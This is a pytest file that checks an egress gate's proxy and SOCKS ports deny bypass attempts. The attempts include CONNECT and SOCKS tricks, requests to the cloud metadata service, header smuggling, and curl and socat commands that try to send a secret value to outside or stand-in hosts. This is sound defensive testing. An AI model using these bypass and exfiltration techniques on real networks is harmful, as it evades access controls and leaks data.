# SPDX-License-Identifier: Apache-2.0
"""Through the gate's own proxy ports, which have to judge what they are asked for as strictly as a connection to anywhere."""

import struct

import pytest

from lab import METADATA, v4

from .hellos import hello, sni
from .packets import GATE4, SECRET

BAD = SECRET + b".bad.test"
HELLO_OK, HELLO_BAD = hello(sni(b"ok.test")), hello(sni(BAD))


def connect(target, early=b"", fields=b""):
    return b"CONNECT " + target + b" HTTP/1.1\r\n" + fields + b"\r\n" + early


def socks5(name, port=443, command=1, early=b""):
    return b"\5\1\0" + b"\5" + bytes([command, 0, 3, len(name)]) + name + struct.pack("!H", port) + early


def socks5_to(kind, address, port=443, command=1):
    return b"\5\1\0" + b"\5" + bytes([command, 0, kind]) + address + struct.pack("!H", port)


# technique: bytes to port 3128 of the gate, reason of the first denial
REQUESTS = {
    "CONNECT to another site": (connect(BAD + b":443"), "not_allowed"),
    "CONNECT to an address": (connect(v4("other").encode() + b":443"), "no_name"),
    "CONNECT to an IPv6 address": (connect(b"[2a0f:1ab:0:2::85]:443"), "no_name"),
    "CONNECT to an address in decimal": (connect(b"3405804117:443"), "bad_name"),
    "CONNECT to an allowed host on another port": (connect(b"ok.test:22"), "port_not_allowed"),
    "CONNECT with another SNI inside": (connect(b"ok.test:443", HELLO_BAD), "name_mismatch"),
    "CONNECT with no SNI inside": (connect(b"ok.test:443", hello()), "no_name"),
    "CONNECT with HTTP in clear inside, port 443": (connect(b"ok.test:443", b"GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n"), "not_tls"),
    "CONNECT with SSH inside, port 443": (connect(b"ok.test:443", b"SSH-2.0-" + SECRET + b"\r\n"), "not_tls"),
    "CONNECT inside CONNECT": (connect(b"ok.test:80", connect(BAD + b":443", fields=b"Host: ok.test\r\n")), "host_mismatch"),
    "CONNECT, and another Host inside on port 80": (connect(b"ok.test:80", b"GET / HTTP/1.1\r\nHost: " + BAD + b"\r\n\r\n"), "name_mismatch"),
    "CONNECT with a Host that differs": (connect(b"ok.test:443", fields=b"Host: " + BAD + b"\r\n"), "host_mismatch"),
    "CONNECT with brackets round a name": (connect(b"[" + BAD + b"]:443"), "host_mismatch"),
    "CONNECT with userinfo": (connect(b"ok.test@" + BAD + b":443"), "host_mismatch"),
    "CONNECT to the gate itself": (connect(GATE4.encode() + b":3128"), "no_name"),
    "CONNECT to the metadata service": (connect(METADATA.encode() + b":80"), "no_name"),
    "CONNECT with a body (smuggling)": (connect(b"ok.test:443", fields=b"Content-Length: 5\r\n"), "http_malformed"),
    "HAProxy's PROXY protocol in front": (b"PROXY TCP4 10.200.0.2 203.0.114.85 1 443\r\n" + HELLO_OK, "http_malformed"),
    "HAProxy's PROXY protocol, version 2": (b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c" + bytes(12) + HELLO_OK, "http_malformed"),
    "proxy request for another site": (b"GET http://" + BAD + b"/ HTTP/1.1\r\nHost: " + BAD + b"\r\n\r\n", "not_allowed"),
    "proxy request with HTTPS in clear": (b"GET https://ok.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n", "http_malformed"),
    "proxy request for ftp, gopher, file": (b"GET ftp://ok.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n", "http_malformed"),
    "SOCKS5 to another site": (socks5(BAD), "not_allowed"),
    "SOCKS5 name with NUL inside": (socks5(BAD + b"\0.ok.test"), "bad_name"),
    "SOCKS5 to an address": (socks5_to(1, bytes([203, 0, 114, 85])), "no_name"),
    "SOCKS5 to the metadata service": (socks5_to(1, bytes([169, 254, 169, 254]), 80), "no_name"),
    "SOCKS5 with another SNI inside": (socks5(b"ok.test", early=HELLO_BAD), "name_mismatch"),
    "SOCKS5 BIND": (socks5(b"ok.test", command=2), "socks_unsupported"),
    "SOCKS5 UDP ASSOCIATE": (socks5_to(1, bytes(4), 0, command=3), "socks_unsupported"),
    "SOCKS4": (b"\4\1\1\xbb" + bytes([203, 0, 114, 85]) + b"\0", "socks_unsupported"),
    "SOCKS4a": (b"\4\1\1\xbb\0\0\0\1\0" + BAD + b"\0", "socks_unsupported"),
}


def test_requests(attack):
    with attack("proxy") as attempt:
        talks = attempt.talk(*[data for data, _ in REQUESTS.values()], host=GATE4, port=3128)
    reasons = {}
    for (technique, (_, reason)), (src, _) in zip(REQUESTS.items(), talks):
        denied = attempt.recorded("decision", technique, src=src, verdict="deny")
        reasons[technique] = denied[0]["reason"]
    assert reasons == {technique: reason for technique, (_, reason) in REQUESTS.items()}


PROXY = f"http://{GATE4}:3128"
# technique: curl's options and URL, reason
CURL = {
    "curl --resolve to a server of its own": (["--resolve", f"bad.test:443:{v4('other')}", "https://bad.test/"], "not_allowed"),
    "curl --connect-to": (["--connect-to", f"::{v4('other')}:443", "https://bad.test/"], "not_allowed"),
    "curl --preproxy SOCKS, then a proxy": (["--preproxy", f"socks5h://{GATE4}:1080", "-x", "http://bad.test:8080", "https://ok.test/"], "not_allowed"),
    "curl -x, then a tunnel for HTTP (-p)": (["-p", "-x", PROXY, "http://bad.test/"], "not_allowed"),
    "curl --http2-prior-knowledge": (["--http2-prior-knowledge", "http://ok.test/"], "upgrade"),
    "curl --http2 over clear text (h2c)": (["--http2", "http://ok.test/"], "upgrade"),
    "curl --haproxy-protocol": (["--haproxy-protocol", "https://ok.test/"], "http_malformed"),
    "curl --http0.9 to another server": (["--http0.9", f"http://{v4('other')}/"], "no_name"),
    "curl telnet, gopher, dict to another port": (["-m", "60", f"gopher://{v4('raw')}:7/_{SECRET.decode()}"], "no_name"),
    "curl --doh-url": (["--doh-url", f"https://{v4('other')}/dns-query", "-k", "https://bad.test/"], "no_name"),
    "curl FTP": (["-m", "60", f"ftp://{v4('raw')}/"], "no_name"),
    "curl following a redirect": (["-L", "http://ok.test/redirect?to=http://bad.test/"], "not_allowed"),
}


def test_curl(attack):
    reasons, numbers = {}, {}
    with attack("curl") as attempt:
        for technique, (options, _) in CURL.items():
            before = attempt.records("decision", verdict="deny")
            attempt.run(["curl", "-sS", *options])
            denied, *_ = attempt.records("decision", verdict="deny")[len(before):]
            reasons[technique], numbers[technique] = denied["reason"], denied["seq"]
    for technique, seq in numbers.items():
        attempt.recorded("decision", technique, seq=seq)
    assert reasons == {technique: reason for technique, (_, reason) in CURL.items()}


@pytest.mark.parametrize("technique,argv,reason", [
    ("socat to a server of its own", ["TCP:203.0.114.90:7"], "no_name"),
    ("socat through the proxy (PROXY:)", [f"PROXY:{GATE4}:203.0.114.90:7,proxyport=3128"], "no_name"),
    ("socat through SOCKS4a", [f"SOCKS4A:{GATE4}:bad.test:443,socksport=1080"], "socks_unsupported"),
    ("socat TLS", ["OPENSSL:203.0.114.85:443,verify=0,snihost=bad.test"], "not_allowed"),
])
def test_socat(attack, technique, argv, reason):
    with attack(technique) as attempt:
        attempt.run(["socat", "-T", "60", f"SYSTEM:echo {SECRET.decode()}", *argv])
    assert attempt.recorded("decision", verdict="deny")[0]["reason"] == reason
